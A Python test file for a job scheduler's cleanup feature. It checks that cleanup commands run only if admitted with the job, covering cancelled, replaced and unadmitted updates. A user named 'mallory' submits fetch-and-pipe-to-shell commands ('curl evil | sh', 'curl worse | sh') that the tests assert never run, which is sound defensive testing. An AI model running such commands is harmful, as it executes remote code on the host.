"""A cleanup command runs as the daemon: only one that the scheduler admitted with its job may run."""

from __future__ import annotations

import json

import pytest

from bastion.core.bucket import keys
from bastion.testing.cluster import QUOTA, Cluster
from bastion.testing.scripted_hosts import runs_for


def orders(cluster: Cluster) -> list[str]:
    """The commands of all cleanup runs that were ever ordered and are still there."""
    return [cluster.json(key)["command"] for key in cluster.listed("runs/") if "-cleanup/order" in key]


def began_cleanups(cluster: Cluster) -> list[str]:
    return [began.run for began in cluster.hosts.began if began.run.endswith("-cleanup")]


def settle_and_collect(cluster: Cluster, steps: int = 12) -> set[str]:
    commands: set[str] = set()
    for _ in range(steps):
        cluster.step()
        commands.update(orders(cluster))
    return commands


@pytest.mark.parametrize("quota", [QUOTA, None], ids=["with a quota file", "without a quota file"])
@pytest.mark.parametrize("end", ["cancelled", "removed", "replaced"])
def test_the_cleanup_command_of_a_job_that_never_started_does_not_run(quota: bytes | None, end: str) -> None:
    cluster = Cluster(quota=quota)
    cluster.submit("job", user="mallory", project="nobodys", cleanup_command="curl evil | sh")
    cluster.run_until(lambda: cluster.status("job") == "PENDING")
    if end == "cancelled":
        cluster.cancel("job")
    elif end == "removed":
        meta = cluster.store.head(keys.active("job"))
        assert meta is not None
        cluster.store.delete(meta.key, generation=meta.generation)
    else:
        cluster.submit("job", user="mallory", project="nobodys", command="another")
    commands = settle_and_collect(cluster)
    assert (commands, began_cleanups(cluster)) == (set(), [])
    assert any("skipping its cleanup command: the job never started" in line for line in cluster.history("job"))


def test_a_member_whose_job_only_waited_has_no_cleanup_either(cluster: Cluster) -> None:
    cluster.submit("big", instance_type="tpu-v4-64")
    cluster.submit("job", user="bob", project="b", instance_type="tpu-v4-128", cleanup_command="echo bye")
    cluster.settle(3)
    cluster.cancel("job")
    cluster.run_until(lambda: cluster.result("job"))
    assert began_cleanups(cluster) == []


def test_an_update_after_the_attempt_changes_no_cleanup_command_until_it_is_admitted(cluster: Cluster) -> None:
    cluster.submit("job", instance_type="tpu-v4-8", cleanup_command="echo bye")
    cluster.run_until(lambda: cluster.hosts.live("job"))
    # The new version stops the attempt; it is of nobody's project and never starts.
    mallory = {"user": "mallory", "project": "nobodys", "instance_type": "tpu-v4-8"}
    cluster.submit("job", **mallory, cleanup_command="curl evil | sh", version=1)
    cluster.run_until(lambda: cluster.record("job").job.version == 1, steps=60)
    cluster.submit("job", **mallory, cleanup_command="curl worse | sh", version=2)
    cluster.run_until(lambda: "worse" in json.dumps(cluster.json(keys.state("job"))), steps=60)
    cluster.restart_daemon()
    cluster.cancel("job")
    cluster.hosts.scripts["job"] = runs_for(1)
    commands = settle_and_collect(cluster)
    assert commands == {"echo bye"}
    assert (cluster.result("job") or {})["outcome"] == "cancelled"


def test_an_update_that_was_admitted_brings_its_own_cleanup_command(cluster: Cluster) -> None:
    cluster.submit("job", instance_type="tpu-v4-8", cleanup_command="echo bye")
    cluster.run_until(lambda: cluster.hosts.live("job"))
    cluster.submit("job", instance_type="tpu-v4-8", cleanup_command="echo farewell", version=1)
    cluster.run_until(lambda: "attempt 2 is running" in "".join(cluster.history("job")), steps=90)
    cluster.hosts.scripts["job"] = runs_for(1)
    cluster.cancel("job")
    assert settle_and_collect(cluster, steps=60) == {"echo farewell"}


def test_a_member_who_was_removed_since_the_start_still_has_the_cleanup_that_was_admitted(cluster: Cluster) -> None:
    cluster.hosts.scripts["job"] = runs_for(3)
    uid = cluster.submit("job", cleanup_command="echo bye")
    cluster.run_until(lambda: cluster.hosts.live("job"))
    cluster.write_quota(QUOTA.replace(b'"alice"', b'"carol"'))
    cluster.run_until(lambda: cluster.result("job"))
    assert began_cleanups(cluster) == [f"{uid}-cleanup"]
